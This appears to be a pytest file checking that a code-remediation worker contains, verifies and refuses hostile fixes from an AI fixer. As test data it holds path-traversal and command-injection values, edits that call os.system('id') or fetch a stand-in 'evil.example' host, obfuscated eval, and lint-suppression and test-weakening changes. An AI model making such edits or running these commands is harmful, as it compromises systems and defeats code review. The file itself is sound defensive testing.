"""The working copy in its contained process, and what hostile fixes come to there."""

import hashlib
import json
import uuid
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.app import isolation, settings
from worker.core.vocabulary import Category, FixAction
from worker.isolation.contained import Contained
from worker.remediation import policy
from worker.remediation.edits import Edit
from worker.remediation.issues import Place
from worker.remediation.policy import Limits
from worker.remediation.trial import Proposal, Trial
from worker.remediation.worktree import Commit, Worktree
from worker.sources import take
from worker.sources.errors import PatchRejected
from worker.sources.snapshot import Snapshot

APP = """import json
import sys


def run(text):
    value = eval(text)
    assert value
    return value


def other(argument):
    return argument


print(sys.argv, json)
"""
FILES = {
    "app.py": APP,
    "lib/util.py": "def add(a, b):\n    return a + b\n",
    "tests/test_app.py": "from app import run\n\n\ndef test_run():\n    assert run('1') == 1\n",
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    ".gitattributes": "*.py text eol=crlf ident filter=evil diff=evil merge=evil working-tree-encoding=UTF-16\n",
    ".gitignore": "*.py\n",
    "uv.lock": "version = 1\n",
    "pyproject.toml": "[tool.ruff]\nselect = ['ALL']\n",
    "CONSTITUTION.md": "- Code MUST NOT call `eval()`.\n",
    "alembic/versions/1.py": "x = 1\n",
    "crlf.py": "def f(text):\r\n    return eval(text)\r\n",
    "end.py": "def f(text):\n    return eval(text)",
    "sp ace.py": "x = eval('1')\n",
    'quo"te.py': "x = eval('1')\n",
    "ünï.py": "x = eval('1')\n",
    "-dash.py": "x = eval('1')\n",
    "secret.py": 'password = "hunter2hunter2"\nx = eval(password)\n',
}
LIMITS = Limits(files=10, lines=200)
RULES = {"ruff": ["S307", "F401", "F841", "B006"]}


@dataclass
class Opened:
    process: Contained
    snapshot: Snapshot
    base: str

    async def trials(self, *proposals: Proposal) -> tuple[Trial, ...]:
        bare = settings().contained()
        found: tuple[Trial, ...] = await self.process.call(Worktree.try_all, list(proposals), bare, RULES)
        return found

    async def untouched(self) -> bool:
        """Whether the working copy is as it was, and the snapshot byte for byte."""
        state = await self.process.call(Worktree.state)
        return state == self.base and digest(self.snapshot) == self.snapshot.digest


def digest(snapshot: Snapshot) -> str:
    found = hashlib.sha256()
    for file in snapshot.files:
        content = (snapshot.root / file.path).read_bytes()
        found.update(f"{hashlib.sha256(content).hexdigest()} {file.path}\n".encode())
    return found.hexdigest()


@asynccontextmanager
async def opened(folder: Path, files: dict[str, str]) -> AsyncIterator[Opened]:
    found = settings(CVA_WORK_DIR=str(folder / "work"))
    request = take.Request(None, content=json.dumps(files).encode(), content_format="files")
    async with take.snapshot(request, settings=found, run_id=uuid.uuid4(), attempt=1, isolation=isolation()) as taken:
        base = await taken.process.call(Worktree.open, taken.snapshot)
        yield Opened(taken.process, taken.snapshot, base)


def at(path: str = "app.py", line: int = 6, rule: str | None = "ruff:S307") -> Place:
    return Place(path, line, line, "", rule)


def edit(old: str, new: str, path: str = "app.py") -> Edit:
    return Edit(path, old, new)


EVAL, MENDED = "    value = eval(text)", "    value = json.loads(text)"


async def test_edits_are_tried_proven_and_taken_back(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        good, silent, worse = await copy.trials(
            Proposal("good", (at(),), (edit(EVAL, MENDED),)),
            Proposal(
                "silent", (at("crlf.py", 2),), (edit("    return eval(text)", "    return eval( text )", "crlf.py"),)
            ),
            Proposal("worse", (at("end.py", 2),), (edit("    return eval(text)", "    return f([", "end.py"),)),
        )
        assert good.proven
        assert good.checked
        assert [(c.removed, c.added) for c in good.changes] == [((EVAL,), (MENDED,))]
        assert silent.left == ("ruff:S307 in crlf.py",)
        assert not worse.reads
        assert not silent.proven
        assert not worse.proven
        assert await copy.untouched()


async def test_a_fix_that_brings_something_new_is_not_proven(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        (trial,) = await copy.trials(
            Proposal("new", (at(),), (edit(EVAL, "    unused = 1\n    value = json.loads(text)"),))
        )
        assert trial.brought == ("ruff:F841 in app.py",)
        assert not trial.proven


async def test_a_place_that_is_left_alone_is_not_mended(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        (trial,) = await copy.trials(Proposal("half", (at(), at("end.py", 2)), (edit(EVAL, MENDED),)))
        assert trial.left == ("end.py is as it was",)


async def test_a_public_function_of_other_parameters_is_breaking(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        (trial,) = await copy.trials(
            Proposal("b", (at(),), (edit(f"def run(text):\n{EVAL}", f"def run(text, strict=True):\n{MENDED}"),))
        )
        assert trial.breaking


async def test_tools_mend_exactly_the_places_they_are_asked_about(tmp_path: Path) -> None:
    files = {"a.py": "import os\nimport re\nimport sys\n", "b.py": "import os\r\nx = 1\r\n"}
    async with opened(tmp_path, files) as copy:
        first, second = await copy.trials(
            Proposal("a", (at("a.py", 1, "ruff:F401"), at("a.py", 3, "ruff:F401"))),
            Proposal("b", (at("b.py", 1, "ruff:F401"),)),
        )
        assert first.changes[0].removed == ("import os", "import sys")
        assert second.changes[0].removed == ("import os\r",)
        assert first.proven
        assert second.proven


async def test_a_tools_fixes_that_overlap_follow_each_other(tmp_path: Path) -> None:
    text = "def f(x):\n    if x:\n        return 1\n    else:\n        if x > 1:\n            return 2\n        else:\n            return 3\n"
    quotes = {4: "else:", 7: "else:"}
    places = tuple(Place("a.py", line, line, quote, "ruff:RET505") for line, quote in quotes.items())
    async with opened(tmp_path, {"a.py": text}) as copy:
        bare = settings().contained()
        (trial,) = await copy.process.call(Worktree.try_all, [Proposal("a", places)], bare, {"ruff": ["RET505"]})
        assert trial.proven, trial
        assert await copy.untouched()


async def test_files_in_which_something_is_left_are_named(tmp_path: Path) -> None:
    files = {"a.py": "import os\n", "b.py": "x = eval('1')\n"}
    async with opened(tmp_path, files) as copy:
        (trial,) = await copy.trials(Proposal("a", (at("a.py", 1, "ruff:F401"), at("b.py", 1))))
        assert (trial.proven, trial.doubtful) == (False, ("b.py",))


async def test_applied_fixes_are_one_patch_and_a_commit_each(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        trials = await copy.trials(
            Proposal("1", (at(),), (edit(EVAL, MENDED),)),
            Proposal("2", (at('quo"te.py', 1),), (edit("x = eval('1')", "x = 1", 'quo"te.py'),)),
            Proposal("3", (at("ünï.py", 1),), (edit("x = eval('1')", "x = 1", "ünï.py"),)),
            Proposal("4", (at("-dash.py", 1),), (edit("x = eval('1')", "x = 1", "-dash.py"),)),
        )
        assert all(trial.proven for trial in trials), trials
        commits = [Commit(trial.patch, f"Fix {number}\n\nWhy: so.", number) for number, trial in enumerate(trials)]
        result = await copy.process.call(Worktree.result, commits)
        patch, mailbox = result.patch, result.mailbox
        assert [len(files) for files in result.written] == [1, 1, 1, 1]
        assert patch.count("diff --git ") == 4
        assert mailbox.count("\nSubject: [PATCH") == 4
        assert await copy.process.call(Worktree.open, copy.snapshot) == copy.base
        assert await copy.process.call(Worktree.stand, [patch]) == ()
        assert await copy.process.call(Worktree.patch) == patch
        # One that does not apply takes no other along.
        assert await copy.process.call(Worktree.stand, [trials[0].patch, trials[0].patch, trials[1].patch]) == (1,)
        with pytest.raises(PatchRejected):
            await copy.process.call(Worktree.result, [commits[0], commits[0]])


def _hostile() -> dict[str, Sequence[Edit]]:
    """What a fixer may answer that means harm, or does as it is told by the repository."""
    inside = edit(EVAL, MENDED)
    found: dict[str, Sequence[Edit]] = {}
    elsewhere = [
        "/etc/passwd", "/tmp/x", "../app.py", "../../app.py", "a/../../app.py", "./app.py", "lib/../app.py", "app.py/",
        "app.py/../app.py", "//app.py", ".git/config", ".git/hooks/pre-commit", ".git/info/attributes", "tree.git/config",
        "../tree.git/config", "../tree.git/hooks/pre-commit", ".GIT/config", ".git", "", ".", "..", "app.py\0", "app.py\n",
        "аpp.py", "app.ру", "app.py\u200b", "APP.PY", "app\uff0epy", "~/.ssh/authorized_keys", "$HOME/x", "C:\\x", "nul",
        "new.py", "lib/new.py", "lib", "lib/", ".github/workflows/new.yml", "/proc/self/mem", "/dev/null", "*", "?pp.py",
        ":(top)app.py", ":/app.py", "-rf", "--work-tree=/", "a" * 1000, "app.py;id", "`id`", "$(id)", "%2e%2e/app.py",
        "lib\\util.py", "app.py ", " app.py", "file:///app.py",
    ]  # fmt: skip
    for path in elsewhere:
        found[f"path {path[:30]!a}"] = [Edit(path, EVAL, MENDED)]
        found[f"beside it {path[:30]!a}"] = [inside, Edit(path, "x = 1", "x = 2")]
    others = {
        "lib/util.py": ("    return a + b", "    return a - b"),
        ".github/workflows/ci.yml": ("jobs: {}", "jobs: {evil: {}}"),
        ".gitattributes": (FILES[".gitattributes"].rstrip("\n"), "* -text"),
        ".gitignore": ("*.py", "*.md"),
        "uv.lock": ("version = 1", "version = 2"),
        "pyproject.toml": ("select = ['ALL']", "select = []"),
        "CONSTITUTION.md": ("- Code MUST NOT call `eval()`.", "- Code MAY call `eval()`."),
        "alembic/versions/1.py": ("x = 1", "x = 2"),
        "tests/test_app.py": ("    assert run('1') == 1", "    run('1')"),
        "secret.py": ("x = eval(password)", "print(password)"),
    }
    for path, (old, new) in others.items():
        found[f"another file {path}"] = [inside, Edit(path, old, new)]
    within = {
        "folded": EVAL.replace("eval", "𝐞val"), "folded keyword": f"{MENDED}; 𝐞xec(text)",
        "noqa": f"{EVAL}  # noqa", "noqa S307": f"{EVAL}  # noqa: S307", "nosec": f"{EVAL}  # nosec",
        "type ignore": f"{MENDED}  # type: ignore", "pylint": f"{MENDED}  # pylint: disable=all",
        "pragma": f"{MENDED}  # pragma: no cover", "ruff": f"    # ruff: noqa\n{MENDED}",
        "bidi": f"{MENDED}  # \u202e", "zero width": MENDED.replace("json", "js\u200bon"), "nul": f"{MENDED}\0",
        "escape": f"{MENDED}  # \x1b[2J", "surrogate": f"{MENDED}  # \ud800", "unchanged": EVAL,
        "unchanged but for space": f"{EVAL} ", "exec": "    exec(text)\n    value = 1",
        "getattr": "    value = getattr(__builtins__, 'ev' + 'al')(text)",
        "subprocess": "    import subprocess\n    value = subprocess.run(text)",
        "network": "    value = json.loads(text)\n    fetch('https://evil.example')",
        "environment": "    import os\n    value = os.environ", "base64": "    value = base64.b64decode(text)",
        "huge": "\n".join([MENDED] * 1000), "long": "    value = '" + "x" * 5000 + "'",
        "many lines": "\n".join([MENDED, *(f"    v{n} = {n}\n    print(v{n})" for n in range(150))]),
    }  # fmt: skip
    for name, new in within.items():
        found[f"within: {name}"] = [edit(EVAL, new)]
    found |= {
        "twice": [edit("", MENDED)],
        "nowhere": [edit("    value = evil(text)", MENDED)],
        "part of a line": [edit("eval(text)", "json.loads(text)")],
        "overlapping": [edit(EVAL, MENDED), edit(f"{EVAL}\n    assert value", f"{MENDED}\n    pass")],
        "another order elsewhere": [inside, edit("print(sys.argv, json)\n", "\nprint(sys.argv, json)")],
        "an import that shadows": [
            inside,
            edit("import json\nimport sys", "import json\nimport sys\nfrom evil import value"),
        ],
        "an import that shadows a used one": [inside, edit("import sys", "import sys\nfrom evil import json")],
        "imports in another order and more": [
            inside,
            edit("import json\nimport sys", "import sys\nimport json\nrun = sys.exit"),
        ],
        "another function": [inside, edit("    return argument", "    return None")],
        "the top": [inside, edit("import json\nimport sys", "import json, os\nos.system('id')")],
        "the assertion": [edit(f"{EVAL}\n    assert value", MENDED)],
        "the signature": [edit(f"def run(text):\n{EVAL}", f"def run(*text):\n{MENDED}")],
        "the name": [edit(f"def run(text):\n{EVAL}", f"def ran(text):\n{MENDED}")],
        "nothing": [],
    }
    return found


HOSTILE = _hostile()


async def test_hostile_fixes_are_refused_or_left_to_a_person(tmp_path: Path) -> None:
    """Taken as what the policy trusts most: style, and a model that is sure."""
    assert len(HOSTILE) >= 100
    beside = tmp_path / "beside"
    beside.write_text("as it was")
    passed = []
    async with opened(tmp_path, FILES) as copy:
        for name, edits in HOSTILE.items():
            (trial,) = await copy.trials(Proposal(name, (at(),), tuple(edits)))
            if trial.refused is not None or not trial.proven:
                continue
            ruling = policy.judge(
                trial.changes, allowed={"app.py"}, category=Category.STYLE, confidence=1.0, breaking=trial.breaking,
                limits=LIMITS,
            )  # fmt: skip
            if ruling.refused is None and ruling.action in (FixAction.AUTO, FixAction.REVIEW):
                passed.append(name)
        assert await copy.untouched()
        left = sorted(path.name for path in copy.snapshot.root.parent.iterdir())
        assert left == ["scratch", "snapshot"]
    assert passed == []
    assert beside.read_text() == "as it was"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["beside", "work"]


async def test_a_secret_is_shown_to_no_fixer(tmp_path: Path) -> None:
    async with opened(tmp_path, FILES) as copy:
        (text,) = await copy.process.call(Worktree.show, ["secret.py"])
        assert text.lines is not None
        assert "hunter2" not in "\n".join(text.lines)


async def test_places_are_found_where_they_moved_to(tmp_path: Path) -> None:
    files = {"a.py": "x = 1\n" * 10 + "y = eval('1')\n" + "x = 1\n" * 5}
    async with opened(tmp_path, files) as copy:
        moved = Place("a.py", 3, 3, "y = eval('1')", "ruff:S307")
        gone = Place("a.py", 3, 3, "z = eval('1')", "ruff:S307")
        found, nowhere = await copy.process.call(Worktree.found_again, [moved, gone])
        assert nowhere is None
        assert (found.start_line, found.end_line) == (11, 11)


async def test_the_repositorys_tests_leave_nothing_behind(tmp_path: Path) -> None:
    files = {
        "a.py": "x = 1\n",
        "t.py": "open('made', 'w').write('x')\nopen('a.py', 'w').write('y')\nraise SystemExit(3)\n",
    }
    async with opened(tmp_path, files) as copy:
        tested = await copy.process.call(Worktree.test, ["python3", "t.py"], 30.0, 1 << 30)
        assert not tested.passed
        assert "3" in tested.reason
        assert await copy.untouched()
